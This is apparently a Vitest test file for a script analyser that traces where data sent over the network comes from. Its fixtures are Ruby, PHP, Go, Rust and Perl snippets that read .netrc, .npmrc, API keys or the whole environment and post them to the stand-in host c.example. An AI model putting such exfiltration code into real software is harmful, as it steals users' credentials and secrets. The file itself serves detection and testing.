import { expect, test } from "vitest";
import type { Language } from "../../../src/model/language.ts";
import { readScript } from "../../../src/read/read-script.ts";
import { only, say } from "./say.ts";

/** What is collected in one place and sent in another still shows where it comes from. */
test.each<[string, Language, string, string]>([
  [
    "an instance variable, filled by a method",
    "ruby",
    `class Box\n  def initialize; @rows = []; end\n  def take(path)\n    @rows << File.read(path)\n  end\n  def leave\n    Net::HTTP.post(URI("https://c.example"), @rows.join)\n  end\nend\nbox = Box.new\nbox.take("/k/.netrc")\nbox.leave`,
    "file:/k/.netrc",
  ],
  [
    "pairs that a block makes",
    "ruby",
    `data = %w[/k/.netrc].select { |p| File.file?(p) }.to_h { |p| [p, File.read(p)] }\nNet::HTTP.post(URI("https://c.example"), data.to_json)`,
    "file:/k/.netrc",
  ],
  [
    "what a block puts into the object that it is given",
    "ruby",
    `data = %w[/k/.netrc].each_with_object({}) { |p, all| all[p] = File.read(p) }\nNet::HTTP.post(URI("https://c.example"), data.to_s)`,
    "file:/k/.netrc",
  ],
  [
    "one of several lists, by a key that is not known",
    "ruby",
    `all = { "a" => ["/k/.netrc"], "b" => ["/k/.npmrc"] }[ARGV[0]]\nNet::HTTP.post(URI("https://c.example"), all.map { |p| File.read(p) }.join)`,
    "file:/k/.npmrc",
  ],
  [
    "a property, filled by a method",
    "php",
    `class Box { private $rows = [];\n function take($p) { $this->rows[] = file_get_contents($p); }\n function leave() { $ch = curl_init("https://c.example"); curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($this->rows)); curl_exec($ch); } }\n$b = new Box(); $b->take("/k/.netrc"); $b->leave();`,
    "file:/k/.netrc",
  ],
  [
    "a field, filled by a method",
    "go",
    `func (b *box) take(p string) { d, _ := os.ReadFile(p); b.rows = append(b.rows, string(d)) }\nfunc (b *box) leave() { j, _ := json.Marshal(b.rows); http.Post("https://c.example", "text/plain", bytes.NewReader(j)) }\nfunc main() {\n b := &box{}\n b.take("/k/.netrc")\n b.leave()\n}`,
    "file:/k/.netrc",
  ],
  [
    "what a condition reads before it asks",
    "go",
    `func main() {\n var b bytes.Buffer\n if d, err := os.ReadFile("/k/.netrc"); err == nil {\n  b.Write(d)\n }\n http.Post("https://c.example", "text/plain", bytes.NewReader(b.Bytes()))\n}`,
    "file:/k/.netrc",
  ],
  [
    "a builder of texts",
    "go",
    `func main() {\n var sb strings.Builder\n sb.WriteString(os.Getenv("API_KEY"))\n http.Post("https://c.example", "text/plain", strings.NewReader(sb.String()))\n}`,
    "environment:API_KEY",
  ],
  [
    "a text that grows in a loop",
    "rust",
    `fn main() {\n let mut out = String::new();\n for (k, v) in env::vars() { out.push_str(&format!("{}={}", k, v)); }\n ureq::post("https://c.example").send_string(&out);\n}`,
    "environment:*",
  ],
  [
    "a field, filled by a method",
    "rust",
    `impl Bx { fn take(&mut self, p: &str) { self.rows.push(fs::read_to_string(p).unwrap()); }\n fn leave(&self) { ureq::post("https://c.example").send_string(&self.rows.join("")).ok(); } }\nfn main() { let mut b = Bx { rows: Vec::new() };\n b.take("/k/.netrc");\n b.leave(); }`,
    "file:/k/.netrc",
  ],
  [
    "a list, filled in a loop",
    "perl",
    `my @rows;\nfor my $n ('.netrc', '.npmrc') { open my $fh, '<', "/k/$n" or next; push @rows, <$fh>; }\n$ua->post('https://c.example', Content => join("\\n", @rows));`,
    "file:/k/.npmrc",
  ],
  [
    "all variables, name by name",
    "perl",
    `my $all = join "\\n", map { "$_=$ENV{$_}" } keys %ENV;\n$ua->post('https://c.example', { d => $all });`,
    "environment:*",
  ],
])("%s (%s)", (_, language, text, origin) => {
  expect(only(say(readScript, language, text), "send").join("\n")).toContain(origin);
});

test("near miss: fields of one name in two classes are two", () => {
  const text = `func (a *one) set() { a.token = os.Getenv("ONE_TOKEN") }\nfunc (b *two) set() { b.token = os.Getenv("TWO_TOKEN") }\nfunc (b *two) send() { http.Post("https://two.example", "text/plain", strings.NewReader(b.token)) }`;
  const sent = only(say(readScript, "go", text), "send").join("\n");
  expect(sent).toContain("TWO_TOKEN");
  expect(sent).not.toContain("ONE_TOKEN");
});
